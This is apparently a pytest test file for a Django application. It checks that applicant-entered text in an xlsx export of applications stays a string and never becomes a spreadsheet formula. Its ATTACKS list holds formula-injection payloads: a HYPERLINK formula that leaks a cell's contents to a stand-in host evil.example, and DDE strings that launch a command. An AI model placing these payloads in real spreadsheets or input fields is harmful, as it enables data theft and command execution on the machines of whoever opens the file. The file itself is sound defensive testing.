"""Issue 13 item 11: text a user wrote never becomes a formula in an xlsx the system makes."""

import openpyxl
import pytest

from consortia import exports
from tests.factories import complete_application

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_applicant_text_is_written_as_text_in_the_officers_export(attack, tmp_path):
    app = complete_application(title=attack)
    app.consortium.name = attack
    app.consortium.save(update_fields=["name"])
    # The export streams into a write-only workbook (a Celery task); its cells go through config.xlsx.
    exports.write_applications_xlsx([app.pk], tmp_path / "export.xlsx")
    book = openpyxl.load_workbook(tmp_path / "export.xlsx")
    (row,) = book.active.iter_rows(min_row=2)
    for cell in (row[1], row[4]):  # title, consortium
        # unchanged, not mangled with a visible apostrophe (XML reads a CR back as LF)
        assert cell.value == attack.replace("\r", "\n")
        assert cell.data_type == "s"  # a string, never a formula
        assert cell.quotePrefix  # and Excel keeps it text when an officer edits the cell


def test_numbers_and_plain_text_are_untouched():
    from config.xlsx import append_row

    book = openpyxl.Workbook()
    append_row(book.active, ["경북 과제", 1_000_000, -5])
    title, amount, negative = book.active[1]
    assert (title.data_type, title.quotePrefix) == ("s", False)
    assert (amount.value, amount.data_type) == (1_000_000, "n")
    assert (negative.value, negative.data_type) == (-5, "n")
